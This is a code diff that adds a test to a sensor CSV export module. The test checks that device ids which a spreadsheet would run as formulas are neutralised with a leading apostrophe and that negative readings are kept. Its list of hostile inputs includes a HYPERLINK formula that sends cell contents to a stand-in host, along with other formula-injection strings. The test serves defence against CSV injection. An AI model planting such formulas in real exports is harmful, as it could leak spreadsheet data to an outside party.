@@ -152,3 +152,21 @@ def test_dag_exports_its_day_and_the_latest_days(platform, load_dag, readings, t
     assert len(day_rows) == 1 + 60
     latest = read_csv(tmp_path / "sensors" / "latest" / "3-days" / "raw.csv")  # 27 Feb .. 1 Mar
     assert latest == day_rows
+
+
+def test_formula_cells_are_neutralised_and_numbers_kept(readings, export_root):
+    """A device id a spreadsheet would run as a formula is written as text; negative numbers stay."""
+    from exports.sensor_csv import export_range, neutralise
+
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
+    assert [neutralise(d) for d in hostile] == ["'" + d for d in hostile]
+    assert neutralise("aq-a") == "aq-a" and neutralise("a=b") == "a=b"
+    day = date(2026, 1, 15)
+    t = datetime(2026, 1, 15, 8, tzinfo=UTC)
+    with pg_connect("transformer") as conn:
+        for device in hostile:
+            for i, m in enumerate(MEASURES):
+                conn.execute("insert into stage.stg_sensor_readings values (%s, %s, %s, %s)", (t, device, m, -3.5 - i))
+    rows = read_csv(export_range(day, day, root=export_root).path)
+    assert sorted(r[1] for r in rows[1:]) == sorted("'" + d for d in hostile)
+    assert all(r[2:] == [str(-3.5 - i) for i in range(len(MEASURES))] for r in rows[1:])
